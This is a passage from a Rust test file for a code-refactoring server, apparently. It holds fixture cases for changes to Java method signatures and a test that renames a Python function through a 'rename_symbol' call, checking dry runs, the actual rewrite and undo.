            "String name)",
            "String name, boolean loud)",
            &[("src/shop/One.java", 5), ("src/shop/Two.java", 4)],
        ),
        removal: (
            "String greet(",
            "String welcome(",
            &[("src/shop/One.java", 5), ("src/shop/Two.java", 4)],
        ),
        narrowing: (
            "String name) {\n        return name;",
            "Integer name) {\n        return \"\";",
            &[("src/shop/One.java", 5), ("src/shop/Two.java", 4)],
        ),
        comment: ("src/shop/One.java", "// nothing happens"),
    });
}

#[test]
fn a_rename_is_the_servers_and_can_be_undone() {
    let files = [
        ("lib.py", "def greet(name: str) -> str:\n    return name\n"),
        ("one.py", "from lib import greet\n\ngreet('greet')\n"),
    ];
    let root = tree(&files);
    let mut server = Server::start(root.path());
    let shown = server
        .call(
            "rename_symbol",
            json!({"id": "greet", "new_name": "welcome", "dry_run": true}),
        )
        .unwrap();
    assert_eq!(shown["written"], false);
    assert_eq!(text(root.path(), "one.py"), files[1].1);
    server
        .call("rename_symbol", json!({"id": "greet", "new_name": "welcome"}))
        .unwrap();
    assert_eq!(text(root.path(), "lib.py"), files[0].1.replace("greet", "welcome"));
    assert_eq!(
        text(root.path(), "one.py"),
        "from lib import welcome\n\nwelcome('greet')\n"
    );
    assert!(lacon(root.path(), &["undo"]).0);
    assert_eq!(text(root.path(), "one.py"), files[1].1);
    // A local name is no symbol of the graph: it is pointed at.
    let local = json!({"path": "lib.py", "snippet": "return @@name", "new_name": "whom"});
    server.call("rename_symbol", local).unwrap();
    assert_eq!(text(root.path(), "lib.py"), files[0].1.replace("name", "whom"));
}
